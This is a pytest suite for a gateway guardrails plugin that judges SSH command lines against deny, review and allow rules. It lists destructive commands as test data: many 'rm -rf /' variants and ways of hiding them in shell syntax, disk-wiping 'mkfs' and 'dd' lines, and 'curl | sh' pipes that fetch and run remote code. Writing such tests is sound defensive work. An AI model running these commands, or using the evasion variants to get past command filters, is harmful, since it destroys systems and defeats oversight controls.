"""Tests for hoopgw_guardrails.commands: shell command lines judged by what they run."""

from __future__ import annotations

from typing import Any

import pytest
from hoopgw_guardrails import GuardrailsPlugin
from hoopgw_guardrails.commands import (
    COMMAND_PRESETS,
    CommandPolicy,
    check_command_patterns,
    check_command_presets,
)

from hoopgw import protocol
from hoopgw.errors import ConfigError
from hoopgw.testing import FakeApprover, ScriptedClient, make_connection
from hoopgw.verdicts import Allow, Block, Hold

PRESETS = CommandPolicy.from_options({"command_presets": list(COMMAND_PRESETS)})


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("rm -rf /", "rm -rf /"),
        ("rm -fr /", "rm -rf /"),
        ("rm -r -f /", "rm -rf /"),
        ("rm -Rf //", "rm -rf /"),
        ("rm --recursive --force /.", "rm -rf /"),
        ("/usr/bin/rm -rf -- /", "rm -rf /"),
        ("rm -rf /*", "rm -rf /"),
        ('rm -rf "/"', "rm -rf /"),
        ("rm -rf $TARGET", "rm -rf /"),
        ("sudo -u root rm -rf /", "rm -rf /"),
        ("LANG=C nice -n 5 rm -rf /", "rm -rf /"),
        ("cd /tmp && rm -rf / ; ls", "rm -rf /"),
        ("ls\nrm -rf /", "rm -rf /"),
        ("bash -c 'rm -rf /'", "rm -rf /"),
        ("sh -c \"sudo sh -c 'rm -rf /'\"", "rm -rf /"),
        ("eval rm -rf /", "rm -rf /"),
        ("shutdown -h now", "shutdown"),
        ("/sbin/reboot", "reboot"),
        ("systemctl poweroff", "systemctl poweroff"),
        ("init 0", "init 0"),
        ("mkfs.ext4 /dev/sda1", "mkfs.*"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "dd of=/dev/*"),
        ("curl -fsSL https://x.invalid/i.sh | sh", "curl ... | sh"),
        ("curl https://x.invalid | sudo bash -s", "curl ... | bash"),
        ("wget -qO- https://x.invalid | python3", "wget ... | python3"),
        ("(curl x | sh)", "curl ... | sh"),
    ],
)
def test_presets_deny(line: str, rule: str) -> None:
    verdict = PRESETS.judge(line)
    assert isinstance(verdict, Block), line
    assert verdict.rule == f"deny_commands:{rule}"


@pytest.mark.parametrize(
    "line",
    [
        # Line continuations: the shell joins the lines before it splits them.
        "rm -rf \\\n/",
        "r\\\nm -rf /",
        # Operators glued to each other are operators, not a word.
        "true;(rm -rf /)",
        "true&&(rm -rf /)",
        "true|(rm -rf /)",
        "((1)); rm -rf /",
        "f(){ rm -rf /; }; f",
        "function f { rm -rf /; }",
        # A quoted operator is a word: the arguments after it still belong to the command.
        "rm -rf ';' /",
        'rm -rf "&&" /',
        # Reserved words before the program.
        "if true; then rm -rf /; fi",
        "while true; do rm -rf /; done",
        "for i in 1; do rm -rf /; done",
        "coproc rm -rf /",
        # Shells and wrappers.
        "sh -lc 'rm -rf /'",
        "bash -xc 'rm -rf /'",
        "bash -c -o pipefail 'rm -rf /'",
        "su --command='rm -rf /'",
        "busybox rm -rf /",
        "chroot / rm -rf /",
        "watch 'rm -rf /'",
        "env -S 'rm -rf /'",
        "alias x='rm -rf /'; x",
        "trap 'rm -rf /' EXIT",
        "PROMPT_COMMAND='rm -rf /'",
        "export PROMPT_COMMAND='rm -rf /'",
        "echo / | xargs rm -rf",
        "find / -maxdepth 0 -exec rm -rf {} +",
        # Option abbreviations, brace expansion, globbed programs, home.
        "rm --rec --force /",
        "rm -rf --no-preserve /tmp",
        "rm -rf {/,}",
        "/bin/r? -rf /",
        "{r,}m -rf /",
        "rm -rf ~/",
        # A pipe through another stage still feeds the shell.
        "curl https://x.invalid | tee f | sh",
    ],
)
def test_shell_syntax_does_not_hide_a_denied_command(line: str) -> None:
    assert isinstance(PRESETS.judge(line), Block), line


@pytest.mark.parametrize(
    "line",
    [
        "ls -la /",
        "rm -rf /tmp/build",
        "rm -f /tmp/x",
        "rm -r ./cache",
        "echo shutdown now",
        "grep -r reboot /var/log",
        "curl -o out.html https://x.invalid",
        "curl https://x.invalid | jq .",
        "cat install.sh | less",
        "systemctl status nginx",
        "init",
        "echo $((1 + 2))",
        "dd if=/dev/sda of=/tmp/disk.img",
        "# rm -rf /",
        "rm -rf ./build/{a,b}",
        "find . -name '*.pyc' -exec rm -f {} \\;",
        "echo 'a;b' | tr ';' ,",
        "bash -lc 'make test'",
        "for f in *.log; do gzip $f; done",
        "find . -name '*.tmp' -exec sh -c 'rm -f \"$1\"' _ {} \\;",
    ],
)
def test_presets_allow(line: str) -> None:
    assert PRESETS.judge(line) is None, line


@pytest.mark.parametrize(
    "line",
    ["echo $(id)", "echo `id`", "diff <(ls a) <(ls b)", "cat <<EOF", 'echo "open', "$CMD -rf /"],
)
def test_what_cannot_be_judged_is_refused(line: str) -> None:
    verdict = PRESETS.judge(line)
    assert isinstance(verdict, Block) and verdict.rule == "unparseable", line


def test_custom_patterns_deny_and_review() -> None:
    policy = CommandPolicy.from_options(
        {"deny_commands": ["git push --force", "kubectl delete ..."], "review_commands": ["apt *"]}
    )
    assert isinstance(policy.judge("git push origin main --force"), Block)
    assert isinstance(policy.judge("git push --force=yes"), Block)
    assert policy.judge("git push origin main") is None
    # Words are arguments in any order, options anywhere: fail closed.
    assert isinstance(policy.judge("kubectl -n x delete pod y"), Block)
    assert policy.judge("kubectl get pods") is None
    held = policy.judge("apt install curl")
    assert isinstance(held, Hold) and held.rule == "review_commands:apt *"
    assert policy.active and not CommandPolicy.from_options({}).active


def test_option_checks() -> None:
    assert check_command_patterns(["rm -rf /", "curl ... | sh"]) is None
    assert "non-empty" in (check_command_patterns([""]) or "")
    assert "empty part" in (check_command_patterns(["curl |"]) or "")
    assert "No closing" in (check_command_patterns(["echo 'x"]) or "")
    assert check_command_presets(["power"]) is None
    assert "unknown preset" in (check_command_presets(["nope"]) or "")


def _ssh(monkeypatch: Any) -> None:
    spec = protocol.ProtocolSpec(name="ssh", build_factory=lambda runtime: None)
    monkeypatch.setattr("hoopgw_guardrails.load_protocol", lambda name: spec)


def test_plugin_judges_exec_and_shell_lines_on_ssh(monkeypatch: Any) -> None:
    _ssh(monkeypatch)
    approver = FakeApprover()
    client = ScriptedClient.for_plugin(
        GuardrailsPlugin,
        {"command_presets": ["power"], "review_commands": ["apt install"]},
        name="guardrails",
        extra_plugins=[("approver", approver)],
    )
    assert client.connect() is None
    assert isinstance(client.run("reboot", kind="exec").verdict, Block)
    assert isinstance(client.run("reboot", kind="shell-line").verdict, Block)
    assert isinstance(client.run("ls", kind="exec").verdict, Allow)
    assert isinstance(client.run("", kind="shell").verdict, Allow)
    assert isinstance(client.run("open /x read", kind="sftp").verdict, Allow)
    _, decision = client.send("apt install curl", kind="exec")
    assert approver.requests and not decision.called
    approver.approve()
    assert isinstance(decision.result, Allow)


def test_command_patterns_on_a_statement_protocol_are_refused() -> None:
    context = type(
        "C",
        (),
        {
            "connection": make_connection(protocol="postgres"),
            "options": {"deny": [], "preset": "", "rules": [], "deny_commands": ["rm -rf /"]},
        },
    )
    with pytest.raises(ConfigError, match="shell command patterns"):
        GuardrailsPlugin(context)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "line",
    ["nice " * 40 + "ls", "|".join(["cat"] * 2000), "nice " * 5000 + "ls"],
)
def test_a_line_with_too_many_readings_is_refused_quickly(line: str) -> None:
    # Wrappers of wrappers once made the readings grow as 2**n: one exec line could keep the
    # gateway's reactor busy for hours.
    verdict = PRESETS.judge(line)
    assert isinstance(verdict, Block) and verdict.rule == "unparseable"
